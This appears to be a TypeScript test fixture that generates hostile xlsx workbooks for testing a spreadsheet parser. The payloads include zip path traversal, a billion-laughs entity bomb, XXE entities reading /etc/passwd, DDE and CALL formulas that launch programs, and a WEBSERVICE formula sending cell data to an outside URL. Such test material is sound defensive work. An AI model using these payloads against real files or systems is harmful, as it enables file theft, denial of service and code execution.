/** Workbooks that are no workbooks, that want to harm, or that are merely odd: made part by part, none stored in the tree. */
import { strToU8, zipSync } from "fflate";
import { type TestBook, type TestCell, xlsxParts } from "./xlsx-file.ts";

/** A file and what must come of it: a code, or the results of sheet S. */
export interface HostileBook {
  readonly name: string;
  readonly make: () => Uint8Array;
  readonly code?: string;
  readonly results?: Readonly<Record<string, unknown>>;
}

const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const one: TestBook = { sheets: { S: { A1: 1, B1: { formula: "A1+1" } } } };
const fine = { B1: 2 };
const book = (more: Partial<TestBook> = {}): Uint8Array => zipSync(xlsxParts({ ...one, ...more }));
const withPart = (name: string, content: string | Uint8Array): Uint8Array =>
  book({ parts: { [name]: content } });
const sheet = (inner: string, before = ""): Uint8Array =>
  withPart("xl/worksheets/sheet1.xml", `${before}<worksheet ${main}>${inner}</worksheet>`);
const data = (rows: string): Uint8Array => sheet(`<sheetData>${rows}</sheetData>`);
const cells = (c: Readonly<Record<string, TestCell>>): Uint8Array =>
  zipSync(xlsxParts({ sheets: { S: c } }));
const f = (formula: string): { readonly formula: string } => ({ formula });

/** Changes bytes of the directory (and of nothing else) in a finished zip. */
function renamed(bytes: Uint8Array, from: string, to: string): Uint8Array {
  const copy = Buffer.from(bytes);
  for (let at = copy.indexOf(from); at >= 0; at = copy.indexOf(from, at + 1)) copy.write(to, at);
  return copy;
}

function flagged(bytes: Uint8Array, offset: number, value: number): Uint8Array {
  const copy = Buffer.from(bytes);
  const at = copy.indexOf(Buffer.from([0x50, 0x4b, 1, 2]));
  copy.writeUInt16LE(value, at + offset);
  return copy;
}

const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${"bcdefghij"[i]} "${`&${"abcdefghi"[i]};`.repeat(10)}">`).join("")}]>`;
const outside = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>';
/** Stored without packing, which would take longer than what is tried here. */
const manyRows = (): Uint8Array => {
  const rows: string[] = [];
  for (let r = 1; r <= 1_048_576; r++) rows.push(`<row r="${r}"/>`);
  rows.push('<row r="1048576"><c r="A1048576"><f>1+1</f></c></row>');
  const xml = `<worksheet ${main}><sheetData>${rows.join("")}</sheetData></worksheet>`;
  return zipSync(xlsxParts({ ...one, parts: { "xl/worksheets/sheet1.xml": Buffer.from(xml) } }), {
    level: 0,
  });
};

const noFiles: readonly HostileBook[] = [
  { name: "HTML called xlsx", make: () => strToU8("<html><table></table></html>"), code: "RUL002" },
  { name: "an image", make: () => new Uint8Array([0x89, 0x50, 0x4e, 0x47]), code: "RUL002" },
  { name: "RTF", make: () => strToU8("{\\rtf1 }"), code: "RUL002" },
  {
    name: "an OpenDocument sheet",
    make: () => zipSync({ mimetype: strToU8("application/vnd.oasis.opendocument.spreadsheet") }),
    code: "RUL020",
  },
  {
    name: "a Word document",
    make: () =>
      zipSync({ "[Content_Types].xml": strToU8("<Types/>"), "word/document.xml": strToU8("<x/>") }),
    code: "RUL002",
  },
  {
    name: "an xlsb",
    make: () =>
      zipSync({ "[Content_Types].xml": strToU8("<Types/>"), "xl/workbook.bin": strToU8("x") }),
    code: "RUL020",
  },
  { name: "PK and nothing else", make: () => strToU8("PK"), code: "RUL022" },
  { name: "a quarter of a file", make: () => book().slice(0, 300), code: "RUL022" },
  { name: "half a file", make: () => book().slice(0, 700), code: "RUL022" },
  { name: "all but the last bytes", make: () => book().slice(0, -3), code: "RUL022" },
  { name: "a part under a password", make: () => flagged(book(), 8, 1), code: "RUL003" },
  { name: "an unknown packing", make: () => flagged(book(), 10, 99), code: "RUL006" },
  { name: "../ in a name", make: () => withPart("../../evil.xml", "x"), code: "RUL006" },
  { name: "..\\ in a name", make: () => withPart("xl\\..\\..\\evil.xml", "x"), code: "RUL006" },
  { name: "a drive in a name", make: () => withPart("C:\\evil.xml", "x"), code: "RUL006" },
  {
    name: "a control character in a name",
    make: () => withPart("xl/a\u0001.xml", "x"),
    code: "RUL006",
  },
  {
    name: "the same part twice",
    make: () => renamed(withPart("xl/stylez.xml", "<x/>"), "xl/stylez.xml", "xl/styles.xml"),
    code: "RUL006",
  },
  { name: "a zip inside", make: () => withPart("xl/media/inner.zip", book()), results: fine },
];

const badXml: readonly HostileBook[] = [
  {
    name: "billion laughs",
    make: () => sheet("<sheetData>&j;</sheetData>", laughs),
    code: "RUL006",
  },
  {
    name: "an outside entity in the book",
    make: () => withPart("xl/workbook.xml", `${outside}<workbook/>`),
    code: "RUL006",
  },
  {
    name: "an outside entity in the styles",
    make: () => withPart("xl/styles.xml", `${outside}<styleSheet/>`),
    code: "RUL006",
  },
  {
    name: "an outside entity in the texts",
    make: () => withPart("xl/sharedStrings.xml", `${outside}<sst>&e;</sst>`),
    code: "RUL006",
  },
  {
    name: "UTF-16 with a DTD",
    make: () =>
      withPart("xl/worksheets/sheet1.xml", Buffer.from(`\ufeff${outside}<worksheet/>`, "utf16le")),
    code: "RUL006",
  },
  {
    name: "100,000 elements inside each other",
    make: () => sheet(`${"<a>".repeat(100_000)}`),
    code: "RUL006",
  },
  {
    name: "100,000 closed elements inside each other",
    make: () => sheet(`${"<a>".repeat(100_000)}${"</a>".repeat(100_000)}<sheetData/>`),
    results: {},
  },
  {
    name: "an attribute of 1 MB",
    make: () => data(`<row r="1" x="${"a1".repeat(500_000)}"><c r="B1"><f>1+1</f></c></row>`),
    results: fine,
  },
  { name: "a tag that never ends", make: () => data(`<row r="1`), code: "RUL006" },
  {
    name: "a character beyond Unicode",
    make: () => data('<row r="1"><c r="A1"><v>&#x110000;</v></c></row>'),
    code: "RUL006",
  },
  {
    name: "no sheets at all",
    make: () => withPart("xl/workbook.xml", `<workbook ${main}/>`),
    code: "none",
  },
  {
    name: "a sheet whose part is missing",
    make: () =>
      withPart(
        "xl/_rels/workbook.xml.rels",
        '<Relationships><Relationship Id="rId1" Target="worksheets/none.xml"/></Relationships>',
      ),
    code: "RUL006",
  },
  {
    name: "a shared text that is not there",
    make: () => data('<row r="1"><c r="A1" t="s"><v>99</v></c><c r="B1"><f>A1=""</f></c></row>'),
    results: { B1: true },
  },
  {
    name: "a style that is not there",
    make: () =>
      data('<row r="1"><c r="A1" s="999999"><v>1</v></c><c r="B1" s="-5"><f>A1+1</f></c></row>'),
    results: fine,
  },
  {
    name: "rows and cells out of the sheet",
    make: () =>
      data(
        '<row r="0"/><row r="99999999"><c r="ZZZZ1"><v>1</v></c></row><row r="1"><c r="B1"><f>1+1</f></c></row>',
      ),
    results: fine,
  },
  {
    name: "columns without end",
    make: () =>
      sheet(
        '<cols><col min="1" max="1000000000" style="1"/></cols><sheetData><row r="1"><c r="B1"><f>1+1</f></c></row></sheetData>',
      ),
    results: fine,
  },
  {
    name: "the whole sheet merged",
    make: () =>
      sheet(
        '<sheetData><row r="1"><c r="B1"><f>1+1</f></c></row></sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
      ),
    results: fine,
  },
  { name: "1,048,576 rows", make: manyRows, results: { A1048576: 2 } },
];

const nested = (n: number): string => `${"IF(A1=1,".repeat(n)}7${",0)".repeat(n)}`;
const long = (length: number): string => `1${"+1".repeat((length - 1) / 2)}`;

/** "?" stands for a formula that must say why it has no value. */
const formulas: readonly (readonly [string, string, unknown])[] = [
  ["64 IFs inside each other", nested(64), 7],
  ["a formula of 8,191 characters", `LEN("${"a".repeat(8_184)}")`, 8_184],
  ["4,096 sums in a row", long(8_191), "?"],
  ["a formula beyond Excel's length", long(40_001), "?"],
  ["a cell that refers to itself", "B1", "?"],
  ["INDIRECT to itself", 'INDIRECT("B1")', "?"],
  ["INDIRECT to another book", "INDIRECT(\"'[x.xlsx]S'!A1\")", "?"],
  ["DDE", "cmd|'/c calc'!A0", "?"],
  ["WEBSERVICE", 'WEBSERVICE("http://example.jp/"&A1)', "?"],
  ["RTD", 'RTD("x",,"y")', "?"],
  ["CALL", 'CALL("kernel32","WinExec","J","calc")', "?"],
  ["REGISTER.ID", 'REGISTER.ID("a","b")', "?"],
  ["another book", "'[1]S'!A1", "?"],
  ["all cells multiplied", "SUM(A:XFD*A:XFD)", { error: "#VALUE!" }],
  ["a text of a billion characters", 'REPT(REPT("a",32000),32000)', { error: "#VALUE!" }],
  ["half a formula", "IF(A1=1,", "?"],
  ["5,000 brackets", `${"(".repeat(5_000)}1${")".repeat(5_000)}`, "?"],
  ["a LAMBDA that calls itself for ever", "LET(f,LAMBDA(g,g(g)),f(f))", "?"],
  ["a pattern of 100 stars", `COUNTIF(A1,"${"*a".repeat(100)}")`, 0],
];

const computed: readonly HostileBook[] = [
  ...formulas.map(([name, formula, value]) => ({
    name,
    make: () => cells({ A1: 1, B1: f(formula) }),
    results: { B1: value },
  })),
  {
    name: "a cell of 32,767 characters",
    make: () => cells({ A1: "あ".repeat(32_767), B1: f("LEN(A1)") }),
    results: { B1: 32_767 },
  },
  {
    name: "control and direction characters",
    make: () => cells({ A1: "a\u202eb\u0009", B1: f("LEN(A1)") }),
    results: { B1: 4 },
  },
  {
    name: "a name that names itself",
    make: () => zipSync(xlsxParts({ sheets: { S: { B1: f("環") } }, names: { 環: "環+1" } })),
    results: { B1: "?" },
  },
  {
    name: "a cycle over three sheets",
    make: () =>
      zipSync(
        xlsxParts({ sheets: { S: { B1: f("T!A1") }, T: { A1: f("U!A1") }, U: { A1: f("S!B1") } } }),
      ),
    results: { B1: "?" },
  },
  {
    name: "a table over nothing",
    make: () =>
      zipSync(
        xlsxParts({
          sheets: { S: { B1: f("SUM(表[数量])") } },
          tables: [{ name: "表", sheet: "S", ref: "Z9:A1:B", cols: ["金額"] }],
        }),
      ),
    results: { B1: "?" },
  },
];

/** Every file of the corpus beside those of hostile-xlsx.test.ts itself. */
export const hostileBooks: readonly HostileBook[] = [...noFiles, ...badXml, ...computed];
